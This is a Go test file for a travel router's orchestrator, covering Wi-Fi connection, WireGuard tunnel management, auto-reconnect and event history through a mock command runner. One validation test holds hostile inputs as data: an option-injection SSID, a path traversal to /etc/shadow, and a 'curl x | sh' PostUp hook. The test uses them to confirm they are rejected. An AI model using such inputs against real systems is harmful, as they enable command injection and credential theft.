package orchestrator

import (
	"context"
	"fmt"
	"sync"
	"testing"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/yllada/travelnet/common"
	"github.com/yllada/travelnet/config"
	"github.com/yllada/travelnet/executor"
	"github.com/yllada/travelnet/executor/mock"
	"github.com/yllada/travelnet/history"
	"github.com/yllada/travelnet/reconcile"
	"github.com/yllada/travelnet/store"
	"github.com/yllada/travelnet/vpn"
	"github.com/yllada/travelnet/wifi"
)

const homeConfig = `[Interface]
PrivateKey = 7jKDwUnw3W3Ho2wXuyq/o/Oek+jsfpBT7iK90h3Ik9Y=
Address = 10.8.0.2/24

[Peer]
PublicKey = L6r9tWzP771p++2K6+qV7Ft/lJzjhwBOeecqL2mYCA8=
Endpoint = 203.0.113.9:51820
AllowedIPs = 0.0.0.0/0
PersistentKeepalive = 25
`

const workConfig = `[Interface]
PrivateKey = L6r9tWzP771p++2K6+qV7Ft/lJzjhwBOeecqL2mYCA8=
Address = 10.9.0.2/24

[Peer]
PublicKey = 7jKDwUnw3W3Ho2wXuyq/o/Oek+jsfpBT7iK90h3Ik9Y=
Endpoint = 198.51.100.4:51820
AllowedIPs = 10.9.0.0/24
`

const scanOutput = `CafeWiFi:AA\:BB\:CC\:DD\:EE\:01:WPA2:72
TravelNet-Portal:AA\:BB\:CC\:DD\:EE\:05:WPA2:99
Airport Free:AA\:BB\:CC\:DD\:EE\:02::40
`

const (
	statusDisconnected = "GENERAL.STATE:30 (disconnected)\nGENERAL.CONNECTION:--\n"
	missingInterface   = "Unable to access interface: No such device"
)

func statusConnected(conn, ip string) string {
	return fmt.Sprintf("GENERAL.STATE:100 (connected)\nGENERAL.CONNECTION:%s\nIP4.ADDRESS[1]:%s/24\n", conn, ip)
}

func dump() string {
	return fmt.Sprintf("cHJpdmF0ZQ==\tcHVibGlj\t51820\toff\n"+
		"L6r9tWzP771p++2K6+qV7Ft/lJzjhwBOeecqL2mYCA8=\t(none)\t203.0.113.9:51820\t0.0.0.0/0\t%d\t1024\t2048\t25\n",
		time.Now().Unix())
}

type memCreds struct {
	mu      sync.Mutex
	secrets map[string]string
}

func (c *memCreds) Store(ssid, secret string) error {
	c.mu.Lock()
	defer c.mu.Unlock()
	c.secrets[ssid] = secret
	return nil
}

func (c *memCreds) Get(ssid string) (string, error) {
	c.mu.Lock()
	defer c.mu.Unlock()
	s, ok := c.secrets[ssid]
	if !ok {
		return "", common.ErrNotFound
	}
	return s, nil
}

func (c *memCreds) Delete(ssid string) error {
	c.mu.Lock()
	defer c.mu.Unlock()
	delete(c.secrets, ssid)
	return nil
}

func (c *memCreds) Clear() error {
	c.mu.Lock()
	defer c.mu.Unlock()
	c.secrets = make(map[string]string)
	return nil
}

type fixture struct {
	o       *Orchestrator
	runner  *mock.Runner
	creds   *memCreds
	journal *history.Journal
}

func newFixture(t *testing.T) *fixture {
	t.Helper()

	cfg := config.DefaultConfig()
	cfg.DataDir = t.TempDir()
	cfg.Tunnel.ConfigDir = t.TempDir()
	cfg.Wireless.ConnectAttempts = 3
	cfg.Wireless.ConnectInterval = 0
	cfg.Tunnel.PollInterval = 0
	cfg.Tunnel.HandshakeWindow = 2 * time.Second
	require.NoError(t, cfg.Validate())

	journal, err := history.Open(":memory:")
	require.NoError(t, err)
	t.Cleanup(func() { journal.Close() })

	runner := mock.New()
	creds := &memCreds{secrets: make(map[string]string)}

	o, err := New(cfg, WithRunner(runner), WithCredentialStore(creds), WithJournal(journal))
	require.NoError(t, err)
	t.Cleanup(func() { o.Close() })

	return &fixture{o: o, runner: runner, creds: creds, journal: journal}
}

// sibling opens a second orchestrator over the same directories and
// system, as a separate travelnetd invocation would.
func (f *fixture) sibling(t *testing.T) *Orchestrator {
	t.Helper()
	journal, err := history.Open(":memory:")
	require.NoError(t, err)
	t.Cleanup(func() { journal.Close() })

	o, err := New(f.o.Config(), WithRunner(f.runner), WithCredentialStore(f.creds), WithJournal(journal))
	require.NoError(t, err)
	t.Cleanup(func() { o.Close() })
	return o
}

func TestTravelSession(t *testing.T) {
	f := newFixture(t)
	ctx := context.Background()

	f.runner.On(executor.CmdScan, mock.OK(scanOutput))
	f.runner.On(executor.CmdWifiConnect, mock.OK("Device 'wlan1' successfully activated.\n"))
	f.runner.On(executor.CmdWifiStatus, mock.OK(statusConnected("CafeWiFi", "192.168.1.50")))
	f.runner.On(executor.CmdTunnelUp, mock.OK(""))
	f.runner.On(executor.CmdTunnelStatus, mock.Fail(1, missingInterface), mock.OK(dump()))

	networks, err := f.o.Scan(ctx)
	require.NoError(t, err)
	require.Len(t, networks, 2, "own hotspot is hidden")
	assert.Equal(t, "CafeWiFi", networks[0].SSID)

	ws, err := f.o.Connect(ctx, "CafeWiFi", "coffee1234")
	require.NoError(t, err)
	assert.Equal(t, wifi.PhaseConnected, ws.Phase)
	assert.Equal(t, "192.168.1.50", ws.IPAddress)
	assert.Equal(t, "72%", ws.Signal.String())

	_, err = f.o.PutTunnelConfig("home", homeConfig)
	require.NoError(t, err)
	names, err := f.o.ListTunnelConfigs()
	require.NoError(t, err)
	assert.Equal(t, []string{"home"}, names)

	ts, err := f.o.TunnelUp(ctx, "home")
	require.NoError(t, err)
	assert.Equal(t, vpn.PhaseUp, ts.Phase)
	assert.Equal(t, "203.0.113.9:51820", ts.Endpoint)

	err = f.o.DeleteTunnelConfig(ctx, "home")
	assert.ErrorIs(t, err, common.ErrInUse)

	snap := f.o.Status()
	assert.Equal(t, wifi.PhaseConnected, snap.Wireless.Phase)
	assert.Equal(t, vpn.PhaseUp, snap.Tunnel.Phase)

	f.runner.Set(executor.CmdTunnelDown, mock.OK(""))
	f.runner.Set(executor.CmdTunnelStatus, mock.OK(dump()), mock.Fail(1, missingInterface))
	ts, err = f.o.TunnelDown(ctx)
	require.NoError(t, err)
	assert.Equal(t, vpn.PhaseDown, ts.Phase)
	require.NoError(t, f.o.DeleteTunnelConfig(ctx, "home"))

	events, err := f.o.History(ctx, 50)
	require.NoError(t, err)
	require.NotEmpty(t, events)
	assert.Equal(t, common.ResourceTunnel, events[0].Resource)
	assert.Equal(t, "Down", events[0].To)

	var wireless int
	for _, ev := range events {
		if ev.Resource == common.ResourceWireless {
			wireless++
		}
	}
	assert.Equal(t, 2, wireless, "Disconnected -> Connecting -> Connected")
}

func TestConnect_RemembersNetwork(t *testing.T) {
	f := newFixture(t)
	ctx := context.Background()

	f.runner.On(executor.CmdWifiConnect, mock.OK(""))
	f.runner.On(executor.CmdWifiStatus, mock.OK(statusConnected("CafeWiFi", "192.168.1.50")))

	_, err := f.o.Connect(ctx, "CafeWiFi", "coffee1234")
	require.NoError(t, err)

	secret, err := f.creds.Get("CafeWiFi")
	require.NoError(t, err)
	assert.Equal(t, "coffee1234", secret)

	ssid, ok, err := f.o.store.GetLastUsed(store.LastSSID)
	require.NoError(t, err)
	assert.True(t, ok)
	assert.Equal(t, "CafeWiFi", ssid)

	require.NoError(t, f.o.ForgetNetwork("CafeWiFi"))
	_, err = f.creds.Get("CafeWiFi")
	assert.ErrorIs(t, err, common.ErrNotFound)
}

func TestAutoReconnect_RestoresNetworkAndTunnel(t *testing.T) {
	f := newFixture(t)
	ctx := context.Background()

	_, err := f.o.PutTunnelConfig("home", homeConfig)
	require.NoError(t, err)
	require.NoError(t, f.o.store.SetLastUsed(store.LastSSID, "HomeWiFi"))
	require.NoError(t, f.o.store.SetLastUsed(store.LastTunnel, "home"))
	require.NoError(t, f.creds.Store("HomeWiFi", "letmein99"))

	f.runner.On(executor.CmdWifiConnect, mock.OK(""))
	f.runner.On(executor.CmdWifiStatus, mock.OK(statusConnected("HomeWiFi", "10.0.0.20")))
	f.runner.On(executor.CmdTunnelUp, mock.OK(""))
	f.runner.On(executor.CmdTunnelStatus, mock.Fail(1, missingInterface), mock.OK(dump()))

	require.NoError(t, f.o.AutoReconnect(ctx))

	calls := f.runner.CallsFor(executor.CmdWifiConnect)
	require.Len(t, calls, 1)
	assert.Equal(t, []string{"HomeWiFi", "password", "letmein99", "ifname", "wlan1"}, calls[0].Args)

	assert.Equal(t, wifi.PhaseConnected, f.o.WirelessStatus().Phase)
	st := f.o.TunnelStatus()
	assert.Equal(t, vpn.PhaseUp, st.Phase)
	assert.Equal(t, "home", st.Name)
}

func TestAutoReconnect_NoTunnelWithoutUpstream(t *testing.T) {
	f := newFixture(t)
	ctx := context.Background()

	_, err := f.o.PutTunnelConfig("home", homeConfig)
	require.NoError(t, err)
	require.NoError(t, f.o.store.SetLastUsed(store.LastSSID, "HomeWiFi"))
	require.NoError(t, f.o.store.SetLastUsed(store.LastTunnel, "home"))

	f.runner.On(executor.CmdWifiConnect, mock.Fail(10, "Error: No network with SSID 'HomeWiFi' found."))
	f.runner.On(executor.CmdWifiDisconnect, mock.OK(""))

	err = f.o.AutoReconnect(ctx)
	require.Error(t, err)
	assert.ErrorIs(t, err, common.ErrCommandFailed)

	assert.Equal(t, wifi.PhaseFailed, f.o.WirelessStatus().Phase)
	assert.Empty(t, f.runner.CallsFor(executor.CmdTunnelUp))
	assert.Equal(t, vpn.PhaseDown, f.o.TunnelStatus().Phase)
}

func TestAutoReconnect_NothingRemembered(t *testing.T) {
	f := newFixture(t)
	require.NoError(t, f.o.AutoReconnect(context.Background()))
	assert.Empty(t, f.runner.Calls())
}

func TestRefresh_AdoptsLiveState(t *testing.T) {
	f := newFixture(t)

	f.runner.On(executor.CmdWifiStatus, mock.OK(statusConnected("Hotel Lobby", "172.16.4.9")))
	f.runner.On(executor.CmdTunnelStatus, mock.OK(dump()))

	snap, err := f.o.Refresh(context.Background())
	require.NoError(t, err)
	assert.Equal(t, wifi.PhaseConnected, snap.Wireless.Phase)
	assert.Equal(t, "Hotel Lobby", snap.Wireless.SSID)
	assert.Equal(t, vpn.PhaseUp, snap.Tunnel.Phase)
	assert.Equal(t, "wg0", snap.Tunnel.Name, "no last tunnel recorded")
	assert.Equal(t, reconcile.HealthHealthy, snap.Health)

	events, err := f.o.History(context.Background(), 10)
	require.NoError(t, err)
	var causes []string
	for _, ev := range events {
		causes = append(causes, ev.Cause)
	}
	assert.Contains(t, causes, "reconcile")
	assert.Contains(t, causes, "health")
}

func TestRefresh_ReportsStatusErrors(t *testing.T) {
	f := newFixture(t)

	f.runner.On(executor.CmdWifiStatus, mock.SpawnError())
	f.runner.On(executor.CmdTunnelStatus, mock.Fail(1, missingInterface))

	snap, err := f.o.Refresh(context.Background())
	require.Error(t, err)
	assert.ErrorIs(t, err, common.ErrExecution)
	assert.Equal(t, wifi.PhaseDisconnected, snap.Wireless.Phase)
	assert.Equal(t, vpn.PhaseDown, snap.Tunnel.Phase)
}

func TestStartClose(t *testing.T) {
	f := newFixture(t)

	f.runner.On(executor.CmdWifiStatus, mock.OK(statusDisconnected))
	f.runner.On(executor.CmdTunnelStatus, mock.Fail(1, missingInterface))

	require.NoError(t, f.o.Start(context.Background()))
	assert.True(t, f.o.reconciler.IsRunning())

	require.NoError(t, f.o.Close())
	assert.False(t, f.o.reconciler.IsRunning())
}

func TestInvalidInputNeverExecutes(t *testing.T) {
	f := newFixture(t)
	ctx := context.Background()

	_, err := f.o.Connect(ctx, "-oProxyCommand=sh", "")
	assert.ErrorIs(t, err, common.ErrValidation)
	_, err = f.o.TunnelUp(ctx, "../../etc/shadow")
	assert.ErrorIs(t, err, common.ErrValidation)
	_, err = f.o.PutTunnelConfig("evil", homeConfig+"PostUp = curl x | sh\n")
	assert.ErrorIs(t, err, common.ErrInvalidConfig)

	assert.Empty(t, f.runner.Calls())
}

func TestHistory_WithoutJournal(t *testing.T) {
	o := &Orchestrator{}
	events, err := o.History(context.Background(), 10)
	require.NoError(t, err)
	assert.Empty(t, events)
}

func TestSeparateInstanceSeesLiveTunnel(t *testing.T) {
	f := newFixture(t)
	ctx := context.Background()

	_, err := f.o.PutTunnelConfig("home", homeConfig)
	require.NoError(t, err)
	_, err = f.o.PutTunnelConfig("work", workConfig)
	require.NoError(t, err)

	f.runner.On(executor.CmdTunnelUp, mock.OK(""))
	f.runner.On(executor.CmdTunnelStatus, mock.Fail(1, missingInterface), mock.OK(dump()))
	_, err = f.o.TunnelUp(ctx, "home")
	require.NoError(t, err)
	f.runner.Reset()

	other := f.sibling(t)
	require.Equal(t, vpn.PhaseDown, other.TunnelStatus().Phase, "a new instance starts without a belief")

	err = other.DeleteTunnelConfig(ctx, "home")
	assert.ErrorIs(t, err, common.ErrInUse)
	assert.Equal(t, "home", other.TunnelStatus().Name)

	third := f.sibling(t)
	_, err = third.TunnelUp(ctx, "work")
	assert.ErrorIs(t, err, common.ErrAlreadyConnected)
	assert.Empty(t, f.runner.CallsFor(executor.CmdTunnelUp))
	assert.Empty(t, f.runner.CallsFor(executor.CmdTunnelDown), "the running tunnel is never torn down")

	names, err := third.ListTunnelConfigs()
	require.NoError(t, err)
	assert.Equal(t, []string{"home", "work"}, names)
	assert.Equal(t, vpn.PhaseUp, f.o.TunnelStatus().Phase)
}
